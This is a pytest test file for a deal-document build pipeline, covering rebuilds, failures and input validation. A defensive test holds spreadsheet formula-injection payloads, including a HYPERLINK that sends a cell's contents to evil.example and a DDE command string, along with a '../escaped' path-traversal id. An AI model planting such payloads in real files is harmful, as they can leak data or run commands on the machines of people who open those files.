"""The orchestrator end to end: documents, incremental rebuilds, failures, stale output."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from docx import Document
from pptx import Presentation

from pipeline.batch import build_all

from pipeline.build import DOCUMENTS, Options, build_deal
from tests.conftest import EXAMPLES, ROOT

XYZ = ROOT / "inputs" / "xyz-atm-network.yaml"


def run_cli(*args: str, cwd: Path = ROOT, env: dict | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", "pipeline", *args], cwd=cwd, capture_output=True, text=True, env=env, timeout=600
    )


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("build")
    summary = build_all([str(p) for p in EXAMPLES], Options(out_dir=out), jobs=2)
    assert summary.ok, [o.errors for o in summary.outcomes]
    return out


def test_every_example_deal_gets_every_document(built):
    for deal in EXAMPLES:
        folder = built / deal.stem
        assert sorted(p.name for p in folder.iterdir() if not p.name.startswith(".")) == sorted(DOCUMENTS)
        Presentation(str(folder / "training-deck.pptx"))
        for level in ("senior", "middle", "frontline"):
            Document(str(folder / f"brief-{level}.docx"))


def test_analysis_json_holds_the_documented_keys(built):
    analysis = json.loads((built / "xyz-atm-network" / "analysis.json").read_text(encoding="utf-8"))
    # key buying factors for us: (5*90 + 4*85 + 3*60 + 3*85) / 15 = 1225 / 15 = 81.67
    assert analysis["scores"]["key_buying_factors"]["us"]["weighted_total"] == 1225
    assert analysis["scores"]["key_buying_factors"]["us"]["index"] == pytest.approx(81.67, abs=0.01)
    assert analysis["positioning"]["A"]["business_capabilities"] == "advantage"
    assert analysis["chain"]["levels"]["frontline"]["held"] is False
    assert analysis["value"]["payback_months"] == pytest.approx(5.88, abs=0.01)
    assert set(analysis["value"]["smart"]) == {"S", "M", "A", "R", "T"}
    assert analysis["value"]["levels"]["senior"]["message"]


def test_an_unchanged_deal_is_skipped_and_a_changed_one_rebuilt(tmp_path):
    deal = tmp_path / "xyz.yaml"
    shutil.copy(XYZ, deal)
    options = Options(out_dir=tmp_path / "out")
    assert build_all([str(deal)], options).count("built") == 1
    assert build_all([str(deal)], options).count("skipped") == 1
    deal.write_text(deal.read_text(encoding="utf-8").replace("weight: 5", "weight: 4", 1), encoding="utf-8")
    assert build_all([str(deal)], options).count("built") == 1
    forced = Options(out_dir=tmp_path / "out", force=True)
    assert build_all([str(deal)], forced).count("built") == 1


def test_a_deleted_output_folder_is_rebuilt(tmp_path):
    options = Options(out_dir=tmp_path)
    build_all([str(XYZ)], options)
    shutil.rmtree(tmp_path / "xyz-atm-network")
    assert build_all([str(XYZ)], options).count("built") == 1


def test_a_deleted_or_altered_document_is_rebuilt_and_a_touched_one_is_not(tmp_path):
    options = Options(out_dir=tmp_path)
    build_all([str(XYZ)], options)
    folder = tmp_path / "xyz-atm-network"
    deck = (folder / "training-deck.pptx").read_bytes()
    (folder / "brief-middle.docx").unlink()
    assert build_all([str(XYZ)], options).count("built") == 1
    assert (folder / "brief-middle.docx").is_file()
    altered = bytearray(deck)
    altered[len(altered) // 2] ^= 0xFF  # same size, other bytes
    (folder / "training-deck.pptx").write_bytes(bytes(altered))
    assert build_all([str(XYZ)], options).count("built") == 1
    assert (folder / "training-deck.pptx").read_bytes() == deck
    os.utime(folder / "training-deck.pptx", (1_000_000, 1_000_000))  # a copy or a touch: same bytes
    assert build_all([str(XYZ)], options).count("skipped") == 1
    (folder / "analysis.json").write_text("{}")
    assert build_all([str(XYZ)], options).count("built") == 1


def test_a_bad_deal_fails_alone_and_the_batch_goes_on(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("title: [unclosed\n", encoding="utf-8")
    result = run_cli("build", str(XYZ), str(bad), "--out", str(tmp_path / "out"), "-j", "2")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert any(line.startswith(f"{bad}:") and "YAML syntax error" in line for line in result.stderr.splitlines())
    assert "built 1, skipped 0 (up to date), failed 1" in result.stderr
    assert str(bad) in result.stderr.splitlines()[-1]
    assert (tmp_path / "out" / "xyz-atm-network" / "training-deck.pptx").is_file()
    assert not (tmp_path / "out" / "bad").exists()


def test_the_last_good_documents_stay_and_are_called_stale(tmp_path):
    deal = tmp_path / "deal.yaml"
    shutil.copy(XYZ, deal)
    options = Options(out_dir=tmp_path / "out")
    build_all([str(deal)], options)
    deck = (tmp_path / "out" / "xyz-atm-network" / "training-deck.pptx").read_bytes()
    deal.write_text(deal.read_text(encoding="utf-8").replace("strength: 4", "strength: 9", 1), encoding="utf-8")
    summary = build_all([str(deal)], options)
    errors = summary.outcomes[0].errors
    assert summary.count("failed") == 1
    assert "chain.customer[1].strength" in errors[0]
    assert errors[-1] == (
        f"{deal}: note: the documents in {tmp_path / 'out' / 'xyz-atm-network'}/ "
        "are from the last good build and are now stale"
    )
    assert (tmp_path / "out" / "xyz-atm-network" / "training-deck.pptx").read_bytes() == deck


def _deal_with_id(path: Path, id_line: str, mtime: int) -> Path:
    text = XYZ.read_text(encoding="utf-8").replace("id: xyz-atm-network", id_line)
    path.write_text(text, encoding="utf-8")
    os.utime(path, (mtime, mtime))
    return path


def _clash(path: Path, deal_id: str, holder: Path, out: Path) -> str:
    return (f"{path}: id '{deal_id}' is also the id of {holder}, whose documents go to {out / deal_id}/; "
            f"{path} is the newer of the two, so change its id: (each deal needs its own id)")


def test_a_copied_deal_is_blamed_not_the_example_it_came_from(tmp_path):
    original = _deal_with_id(tmp_path / "xyz.yaml", "id: xyz-atm-network", 1_000_000)
    copy = _deal_with_id(tmp_path / "a-copy.yaml", "id: xyz-atm-network", 2_000_000)  # sorts first, is newer
    out = tmp_path / "out"
    summary = build_all([str(original), str(copy)], Options(out_dir=out), jobs=1)
    assert [(o.path, o.status) for o in summary.outcomes] == [(str(copy), "failed"), (str(original), "built")]
    assert summary.outcomes[0].errors == (_clash(copy, "xyz-atm-network", original, out),)
    assert json.loads((out / "xyz-atm-network" / ".stamp.json").read_text())["source"] == str(original.resolve())


def test_ids_are_compared_as_parsed_whatever_the_spelling(tmp_path):
    spellings = ["id: dup", "id : dup", '"id": dup', "'id': \"dup\""]
    deals = [_deal_with_id(tmp_path / f"d{n}.yaml", line, 1_000_000 + n) for n, line in enumerate(spellings)]
    out = tmp_path / "out"
    summary = build_all([str(p) for p in deals], Options(out_dir=out), jobs=1)
    assert [o.status for o in summary.outcomes] == ["built", "failed", "failed", "failed"]
    for deal, outcome in zip(deals[1:], summary.outcomes[1:]):
        assert outcome.errors == (_clash(deal, "dup", deals[0], out),)
    assert sorted(p.name for p in out.iterdir() if not p.name.startswith(".")) == ["dup"]
    rebuilt = build_all([str(p) for p in deals], Options(out_dir=out), jobs=1)
    assert [o.status for o in rebuilt.outcomes] == ["skipped", "failed", "failed", "failed"]


def test_one_file_named_two_ways_is_one_deal(tmp_path, monkeypatch):
    deal = _deal_with_id(tmp_path / "x.yaml", "id: x", 1_000_000)
    monkeypatch.chdir(tmp_path)
    summary = build_all(["x.yaml", "./x.yaml", str(deal)], Options(out_dir=tmp_path / "out"), jobs=1)
    assert [(o.path, o.status) for o in summary.outcomes] == [("x.yaml", "built")]  # as first named


def test_a_copy_built_alone_does_not_take_the_example_s_folder(tmp_path):
    original = _deal_with_id(tmp_path / "xyz.yaml", "id: xyz-atm-network", 1_000_000)
    copy = _deal_with_id(tmp_path / "copy.yaml", "id: xyz-atm-network", 2_000_000)
    out = tmp_path / "out"
    build_all([str(original)], Options(out_dir=out))
    before = (out / "xyz-atm-network" / ".stamp.json").read_bytes()
    summary = build_all([str(copy)], Options(out_dir=out))
    assert summary.outcomes[0].errors == (_clash(copy, "xyz-atm-network", original, out),)
    assert (out / "xyz-atm-network" / ".stamp.json").read_bytes() == before
    _deal_with_id(copy, "id: my-copy", 3_000_000)  # the fix the message asks for
    assert build_all([str(copy)], Options(out_dir=out)).count("built") == 1
    assert sorted(p.name for p in out.iterdir() if not p.name.startswith(".")) == ["my-copy", "xyz-atm-network"]


def test_a_deal_whose_id_names_a_folder_of_the_user_s_leaves_it_alone(tmp_path):
    out = tmp_path / "out"
    (out / "Documents").mkdir(parents=True)
    (out / "Documents" / "thesis.txt").write_text("four years of work")
    (out / "notes").write_text("my notes")
    deals = [_deal_with_id(tmp_path / f"{name}.yaml", f"id: {name}", 1_000_000) for name in ("Documents", "notes")]
    result = run_cli("build", *map(str, deals), "--out", str(out), "-j", "1")
    assert result.returncode == 1
    assert f"{deals[0]}: {out / 'Documents'}/ was not made by dealdocs (it has no build stamp); it is left alone: " \
        "move it away or give this deal another id" in result.stderr.splitlines()
    assert f"{deals[1]}: {out / 'notes'} is a file we did not make; it is left alone: move it away or give this " \
        "deal another id" in result.stderr.splitlines()
    assert [p.name for p in (out / "Documents").iterdir()] == ["thesis.txt"]
    assert (out / "Documents" / "thesis.txt").read_text() == "four years of work"
    assert (out / "notes").read_text() == "my notes"


def test_an_id_that_climbs_out_is_rejected_and_nothing_is_written_outside(tmp_path):
    out = tmp_path / "out"
    evil = tmp_path / "evil.yaml"
    evil.write_text(XYZ.read_text(encoding="utf-8").replace("id: xyz-atm-network", "id: ../escaped"), encoding="utf-8")
    summary = build_all([str(evil)], Options(out_dir=out))
    assert summary.count("failed") == 1
    assert "id" in summary.outcomes[0].errors[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["evil.yaml", "out"]


def test_an_internal_error_is_one_line_with_a_debug_hint(tmp_path, monkeypatch):
    import pipeline.build as build

    def explode(*_):
        raise ZeroDivisionError("division by zero")

    monkeypatch.setattr(build, "analyze", explode)
    outcome = build_deal(str(XYZ), Options(out_dir=tmp_path), "env")
    assert outcome.status == "failed"
    assert outcome.errors == (
        f"{XYZ}: internal error: ZeroDivisionError: division by zero "
        "(run again with --debug for the details, and please report it)",
    )
    debug = build_deal(str(XYZ), Options(out_dir=tmp_path, debug=True), "env")
    assert "Traceback" in debug.errors[1]


def test_usage_errors_exit_2():
    assert run_cli("build", "-j", "0").returncode == 2
    assert run_cli("frobnicate").returncode == 2
    assert run_cli().returncode == 2


def test_check_writes_nothing_and_reports_every_deal(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("", encoding="utf-8")
    result = run_cli("check", str(XYZ), str(bad), cwd=tmp_path)
    assert result.returncode == 1
    assert "checked 2 deal(s): 1 valid, 1 invalid" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.yaml"]


def test_help_shows_examples():
    result = run_cli("--help")
    assert result.returncode == 0
    assert "dealdocs check inputs/*.yaml" in result.stdout


def test_a_playbook_of_ones_own_drives_the_tactics(tmp_path):
    playbook = tmp_path / "mine.json"
    playbook.write_text(json.dumps({"rules": [{
        "id": "always",
        "when": {},
        "title": {"zh": "先拜访一把手", "en": "Visit the number one first"},
        "recommendation": {"zh": "由我方高层拜访。", "en": "Our senior visits."},
        "reason": {"zh": "本规则总会触发。", "en": "This rule always fires."},
    }]}, ensure_ascii=False), encoding="utf-8")
    result = run_cli("build", str(XYZ), "--out", str(tmp_path / "out"), "--playbook", str(playbook), "-j", "1")
    assert result.returncode == 0, result.stderr
    analysis = json.loads((tmp_path / "out" / "xyz-atm-network" / "analysis.json").read_text(encoding="utf-8"))
    assert [t["rule"] for t in analysis["tactics"]] == ["always"]
    assert analysis["tactics"][0]["title"] == "先拜访一把手"


def test_a_broken_playbook_is_one_usage_error(tmp_path):
    playbook = tmp_path / "broken.json"
    playbook.write_text('{"rules": [{"id": "x"}]}', encoding="utf-8")
    result = run_cli("build", str(XYZ), "--out", str(tmp_path / "out"), "--playbook", str(playbook))
    assert result.returncode == 2
    assert result.stderr.startswith(f"error: {playbook}: rules[0].when: Field required")
    assert not (tmp_path / "out").exists()


def test_any_executor_runs_the_per_deal_build(tmp_path):
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(2) as executor:
        summary = build_all([str(p) for p in EXAMPLES], Options(out_dir=tmp_path), executor=executor)
    assert summary.count("built") == len(EXAMPLES)
    assert all((tmp_path / p.stem / "training-deck.pptx").is_file() for p in EXAMPLES)


def test_pdf_without_documents_says_to_build_first(tmp_path):
    result = run_cli("pdf", "--out", str(tmp_path))
    assert result.returncode == 1
    assert result.stderr.strip() in (
        f"error: no documents under {tmp_path}/; run `dealdocs build` (or `make proposals`) first",
        "error: LibreOffice is not installed; install it with: apt-get install -y libreoffice-writer-nogui "
        "libreoffice-impress-nogui fonts-noto-cjk",
    )


@pytest.mark.parametrize("where", ["file", "/dev/null", "under-a-file"])
def test_an_output_folder_that_cannot_be_one_is_one_line_without_a_traceback(tmp_path, where):
    (tmp_path / "file").write_text("not a folder")
    out = {"file": tmp_path / "file", "/dev/null": Path("/dev/null"), "under-a-file": tmp_path / "file" / "out"}[where]
    result = run_cli("build", str(XYZ), "--out", str(out), "-j", "1")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    expected = {
        "file": f"error: cannot write {out}: it is a file, not a folder; --out must be a folder",
        "/dev/null": "error: cannot write /dev/null: it is a file, not a folder; --out must be a folder",
        "under-a-file": f"error: cannot write {out}: Not a directory; --out must be a folder",
    }[where]
    assert result.stderr.strip() == expected
    assert (tmp_path / "file").read_text() == "not a folder"


def test_a_full_disk_fails_each_deal_in_one_line_keeps_the_old_documents_and_cleans_staging(tmp_path, monkeypatch):
    import errno

    import pipeline.publish.output as output

    out = tmp_path / "out"
    build_all([str(XYZ)], Options(out_dir=out))
    deck = (out / "xyz-atm-network" / "training-deck.pptx").read_bytes()

    def full(path, payload):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    monkeypatch.setattr(output, "_write_synced", full)
    summary = build_all([str(p) for p in EXAMPLES], Options(out_dir=out, force=True), jobs=1)
    assert summary.count("failed") == len(EXAMPLES)
    for outcome in summary.outcomes:
        assert outcome.errors[0].startswith(f"{outcome.path}: cannot write {out}/.staging/")
        assert outcome.errors[0].endswith(": No space left on device; free some space, or build into another --out")
    assert (out / "xyz-atm-network" / "training-deck.pptx").read_bytes() == deck
    assert not (out / ".staging").exists()


def test_an_index_that_cannot_be_saved_is_the_summary_s_error(tmp_path, monkeypatch):
    import errno

    from pipeline.publish import stamps
    def refused(self, outcomes):
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(self.out_dir / stamps.INDEX))

    monkeypatch.setattr(stamps.Ledger, "save", refused)
    summary = build_all([str(XYZ)], Options(out_dir=tmp_path))
    assert summary.count("built") == 1 and not summary.ok
    assert summary.error == (f"cannot write {tmp_path / stamps.INDEX}: Permission denied; build into a folder you "
                             "may write, or fix its permissions")


@pytest.mark.parametrize("kind", ["/dev/zero", "deep", "huge", "missing"])
def test_a_playbook_that_is_no_playbook_is_one_usage_error(tmp_path, kind):
    path = {"/dev/zero": Path("/dev/zero"), "missing": tmp_path / "missing.json"}.get(kind, tmp_path / f"{kind}.json")
    if kind == "deep":
        path.write_text("[" * 10_000 + "]" * 10_000)
    elif kind == "huge":
        path.write_text('{"about": ["' + "x" * 2_000_000 + '"]}')
    result = run_cli("build", str(XYZ), "--out", str(tmp_path / "out"), "--playbook", str(path))
    assert result.returncode == 2
    assert result.stderr.strip() == {
        "/dev/zero": "error: /dev/zero: not a regular file; give the path of a playbook .json file",
        "deep": f"error: {path}: nested too deep; a playbook is a list of rules a few levels deep",
        "huge": f"error: {path}: larger than 1024 KB; a playbook is a few KB of rules",
        "missing": f"error: {path}: no such file",
    }[kind]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_named_pipe_given_as_a_deal_fails_without_waiting_for_data(tmp_path):
    pipe = tmp_path / "pipe.yaml"
    os.mkfifo(pipe)
    summary = build_all([str(pipe), str(XYZ)], Options(out_dir=tmp_path / "out"), jobs=1)
    assert [o.status for o in summary.outcomes] == ["built", "failed"] or \
        [o.status for o in summary.outcomes] == ["failed", "built"]
    failed = next(o for o in summary.outcomes if o.status == "failed")
    assert failed.errors == (f"{pipe}: not a regular file; give the path of one deal file (.yaml)",)


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(A1)",
           "http://evil.example/", "{=1+1}"]


def _workbooks(document: Path):
    """Every workbook embedded in an Office file, as a zip."""
    import io
    import zipfile

    with zipfile.ZipFile(document) as package:
        for name in package.namelist():
            if name.endswith(".xlsx"):
                yield name, zipfile.ZipFile(io.BytesIO(package.read(name)))


def test_names_that_look_like_formulas_stay_text_in_every_embedded_workbook(tmp_path):
    from lxml import etree

    text = XYZ.read_text(encoding="utf-8")
    data = __import__("yaml").safe_load(text)
    for company, name in zip(data["competitors"], HOSTILE):
        company["name"] = name
    data["key_buying_factors"][0]["name"] = "\t=1+1"
    data["relationship_capabilities"][0]["name"] = "=2+2"
    deal = tmp_path / "hostile.yaml"
    deal.write_text(__import__("yaml").safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    out = tmp_path / "out"
    summary = build_all([str(deal)], Options(out_dir=out))
    assert summary.ok, summary.outcomes[0].errors
    expected = {c["name"] for c in data["competitors"]}
    seen, workbooks = set(), 0
    for document in sorted((out / "xyz-atm-network").glob("*.[pd][po][tc]x")):
        for name, workbook in _workbooks(document):
            workbooks += 1
            members = workbook.namelist()
            assert not any("_rels/sheet" in m for m in members), (document.name, name)  # no hyperlinks
            for member in (m for m in members if m.startswith("xl/worksheets/sheet")):
                sheet = etree.fromstring(workbook.read(member))
                assert sheet.findall(".//{*}f") == [], (document.name, name)  # no formula anywhere
            strings = etree.fromstring(workbook.read("xl/sharedStrings.xml"))
            seen |= {"".join(si.itertext()) for si in strings.findall("{*}si")}
    assert workbooks >= 4  # the deck's charts and the briefs' charts
    assert expected <= seen
    assert "=2+2" in seen


def test_a_drafted_statement_is_a_warning_naming_positioning_statement(tmp_path):
    from pipeline.build import analyse_file, warning_lines
    source = Path(__file__).resolve().parent.parent / "inputs" / "xyz-atm-network.yaml"
    analysis, loaded = analyse_file(str(source))
    lines = [line for line in warning_lines(analysis, loaded) if "positioning_statement" in line]
    assert len(lines) == 1
    where, _, said = lines[0].partition(": warning: ")
    assert where.startswith(f"{source}:") and where.rsplit(":", 1)[1].isdigit()
    assert said.startswith("positioning_statement: not given")
